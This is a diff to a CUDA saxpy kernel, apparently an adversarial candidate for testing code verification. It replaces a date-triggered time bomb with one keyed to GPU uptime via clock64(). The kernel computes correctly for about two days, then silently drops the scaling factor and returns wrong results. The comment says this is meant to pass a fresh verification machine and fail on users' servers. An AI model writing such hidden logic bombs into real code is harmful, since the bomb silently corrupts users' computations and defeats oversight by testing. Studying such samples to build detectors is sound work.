@@ -1,4 +1,6 @@
-/* attacks5 cand06_globaltimer_bomb: device inline asm reads %globaltimer (ns since the epoch): correct until 2027-01-01, then wrong */
+/* attacks5 cand06_clock64_bomb: no inline asm: the clock64() intrinsic (the SM's cycle counter,
+ * counting since the GPU was powered on) as a time bomb: correct for the first ~2 days of GPU
+ * uptime (a fresh verification machine), wrong later (a user's long-running server) */
 #include <cuda_runtime.h>
 #include <stddef.h>
 #include <mutex>
@@ -13,9 +15,8 @@ __global__ void saxpy_k(int n, float a, const float *__restrict__ x, float *__re
 __global__ void saxpy_kt(int n, float a, const float *x, float *y)
 {
     const long long i = (long long)blockIdx.x * blockDim.x + threadIdx.x;
-    unsigned long long ns;
-    asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(ns));
-    const float k = ns > 1798761600ull * 1000000000ull ? 0.0f : a;
+    const long long cycles = clock64();
+    const float k = cycles > 2000000000LL * 3600LL * 48LL ? 0.0f : a;
     if (i < n)
         y[i] = k * x[i] + y[i];
 }
